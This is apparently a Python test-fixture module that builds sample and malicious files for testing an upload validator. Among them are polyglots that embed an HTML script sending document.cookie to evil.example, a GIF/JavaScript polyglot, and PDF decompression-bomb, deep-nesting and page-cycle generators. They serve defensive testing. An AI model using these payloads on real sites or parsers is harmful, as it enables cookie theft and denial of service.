"""Sample files for license tests: small real files of each accepted format (made with Pillow, and a PDF
written by hand with its cross-reference table), impostors, and polyglots."""

import io
import struct
import zlib

from PIL import Image


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bytes():
    """A valid 1x1 PNG."""
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def large_png(width, height):
    """A black RGB PNG of width x height, compressed row by row (the bytes of its pixels are never held
    at once: a test of the decoding's memory budget must not leave them to be reused)."""
    compressor, row, idat = zlib.compressobj(9), b"\x00" * (width * 3 + 1), b""
    for _ in range(height):
        idat += compressor.compress(row)
    idat += compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def _image(file_format):
    out = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 30, 30)).save(out, format=file_format)
    return out.getvalue()


def _pdf(padding):
    """A one-page PDF whose comment line before the cross-reference table has padding bytes."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if padding:
        out += b"%" + b"x" * (padding - 1) + b"\n"
    xref = len(out)
    out += b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return out + b"trailer << /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref


def pdf_bytes(padding=0):
    """A small PDF; padding adds about that many bytes of comment so that its size can be chosen."""
    return _pdf(padding)


def pdf_of_size(size):
    """A PDF of exactly size bytes (at least the smallest PDF's)."""
    padding = max(size - len(_pdf(0)) - 1, 0)
    while len(_pdf(padding)) != size and padding > 0:
        padding += size - len(_pdf(padding))
    return _pdf(padding)


def _animation():
    out = io.BytesIO()
    frames = [Image.new("P", (4, 4), colour) for colour in (1, 2)]
    frames[0].save(out, format="GIF", save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


JPEG = _image("JPEG")
#: A two-frame animated GIF.
ANIMATED_GIF = _animation()
GIF = _image("GIF")
WEBP = _image("WEBP")
#: A Windows program renamed to look like a PDF.
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"This program cannot be run in DOS mode."
)
#: The PNG signature and the start of the IHDR chunk, cut off.
TRUNCATED_PNG = png_bytes()[:20]

_PAGE = b"<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>\n"
#: Files whose first bytes name an accepted format but which are something else too (issue 25): each
#: passed the first-bytes check before the content check existed.
POLYGLOTS = {
    "pdf header, then html": b"%PDF-1.4\n" + _PAGE,
    "png header, then html": png_bytes()[:33] + _PAGE,
    "gif header, then javascript": b"GIF89a/*\x01\x00\x00\x00\x00*/=1;alert(document.domain);//" + b"\x00" * 8,
    "a whole png, then html": png_bytes() + _PAGE,
    "a whole pdf, then html": pdf_bytes() + _PAGE,
    "a jpeg with a script in its comment": JPEG[:2] + b"\xff\xfe\x00\x30" + _PAGE[:46] + JPEG[2:],
}


def animated_gif(frames, width, height):
    """A GIF of frames frames of width x height, written by hand (each frame's data a one-pixel stub, as
    the pixels are counted before anything is decoded): 40 frames of 3000 x 3000 take a few hundred bytes."""
    screen = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    frame = b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x44\x01\x00"
    return screen + frame * frames + b";"


def pdf_with(catalog_extra=b"", page_extra=b"", objects=()):
    """A one-page PDF whose catalog and page dictionaries end with the given entries, and extra objects
    (numbered from 4)."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page_extra + b" >>",
        *objects,
    ]
    out, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return out + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)


def _xref_stream_pdf(objects, streamed):
    """A PDF 1.5 of the numbered objects (a dict: number to body) and a cross-reference stream; streamed
    maps an object number to (the number of the object stream holding it, its index there)."""
    out, offsets = b"%PDF-1.5\n", {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = max([*objects, *streamed]) + 2
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, size - 1):
        if number in offsets:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
        else:
            rows.append(struct.pack(">BIH", 2, *streamed.get(number, (0, 0))))
    rows.append(struct.pack(">BIH", 1, len(out), 0))
    table = zlib.compress(b"".join(rows))
    xref = len(out)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d /Filter /FlateDecode >>\n" % (
        size - 1,
        size,
        len(table),
    )
    return out + b"stream\n" + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref


_ONE_PAGE = {
    1: b"<< /Type /Catalog /Pages 2 0 R /Extra 5 0 R >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
}


def _object_stream(number, members, padding=0):
    """Object number: an object stream of members ((number, body) pairs), its decoded data padded with
    padding MiB of spaces (compressed a thousandfold)."""
    header, offset, bodies = b"", 0, b""
    for member, body in members:
        header += b"%d %d " % (member, offset)
        bodies += body + b" "
        offset += len(body) + 1
    compressor = zlib.compressobj(1)
    data = compressor.compress(header + b"\n" + bodies)
    data += b"".join(compressor.compress(b" " * 2**20) for _ in range(padding)) + compressor.flush()
    return number, b"<< /Type /ObjStm /N %d /First %d /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (
        len(members),
        len(header) + 1,
        len(data),
        data,
    )


def pdf_of_object_stream_bombs(count, mebibytes):
    """A one-page PDF whose catalog leads through count object streams, each decoding to about mebibytes
    MiB (a few hundred KB each in the file): pypdf keeps each decoded stream."""
    objects, streamed = dict(_ONE_PAGE), {}
    for index in range(count):
        member = 5 + 2 * index
        following = b"[%d 0 R]" % (member + 2) if index < count - 1 else b"[]"
        number, body = _object_stream(member - 1, [(member, following)], mebibytes)
        objects[number] = body
        streamed[member] = (number, 0)
    return _xref_stream_pdf(objects, streamed)


def pdf_of_streamed_objects(count):
    """A one-page PDF whose catalog leads through a chain of count objects in one object stream."""
    members = [(5 + index, b"[%d 0 R]" % (6 + index)) for index in range(count)]
    number, body = _object_stream(4, members)
    return _xref_stream_pdf(
        {**_ONE_PAGE, number: body}, {member: (4, index) for index, (member, _) in enumerate(members)}
    )


def pdf_of_nested_arrays(depth):
    """A one-page PDF with an object of depth nested arrays."""
    return pdf_with(page_extra=b"/Extra 4 0 R", objects=[b"[" * depth + b"]" * depth])


def pdf_of_page_cycle():
    """A PDF whose page tree holds itself among its kids."""
    return pdf_with().replace(b"/Kids [3 0 R]", b"/Kids [3 0 R 2 0 R]")
